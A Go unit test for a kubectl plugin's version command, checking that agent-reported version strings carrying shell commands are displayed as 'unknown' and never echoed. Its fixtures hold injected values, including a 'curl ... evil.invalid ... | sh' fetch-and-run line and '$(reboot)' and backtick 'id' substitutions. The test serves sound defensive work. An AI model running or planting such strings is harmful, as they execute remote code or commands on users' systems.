package cli

import (
	"strings"
	"testing"

	"github.com/podsrc/podsrc/internal/version"
)

// TestAgentVersionsShownOnlyWhenVersions: an agent whose versions are
// commands gets "unknown" in version's answer and in the skew warning,
// which then suggests no install of any release.
func TestAgentVersionsShownOnlyWhenVersions(t *testing.T) {
	const hostile = "v1.2.3; curl -s http://evil.invalid/x | sh"
	agents, server := agentsOf(t, hostile, "v1.36.0", "node-1")
	fa := agents[0]
	fa.Lock()
	fa.Version.ReproducedKubeletVersion, fa.Version.GoVersion = "$(reboot)", "go1.26.8`id`"
	fa.Unlock()
	for _, output := range []string{"", "json"} {
		args := []string{"version", "node-1", "--kubeconfig", kubeconfig(t, server)}
		if output != "" {
			args = append(args, "-o", output)
		}
		out, errOut, err := run(t, t.Context(), args...)
		if err != nil {
			t.Fatalf("version -o %q: %v; stderr %s", output, err, errOut)
		}
		for _, s := range []string{"curl", "reboot", "`id`"} {
			if strings.Contains(out+errOut, s) {
				t.Errorf("version -o %q shows the agent's %q:\n%s\n%s", output, s, out, errOut)
			}
		}
		want := "  Agent Version: unknown (serves podsrc.io/v1alpha1, unknown)\n  Reproduced Kubelet Version: unknown\n"
		if output == "json" {
			want = `"agentVersion": "unknown"`
		}
		if !strings.Contains(out, want) {
			t.Errorf("version -o %q:\n%s\nwant %q", output, out, want)
		}
		warning := "Warning: kubectl-podsrc " + version.Version + " and the agent on node node-1 (unknown) are different releases; run kubectl podsrc deploy to run this release's agent\n"
		if !strings.Contains(errOut, warning) || strings.Contains(errOut, "install kubectl-podsrc") {
			t.Errorf("version -o %q: stderr %q, want %q and no install", output, errOut, warning)
		}
	}
}
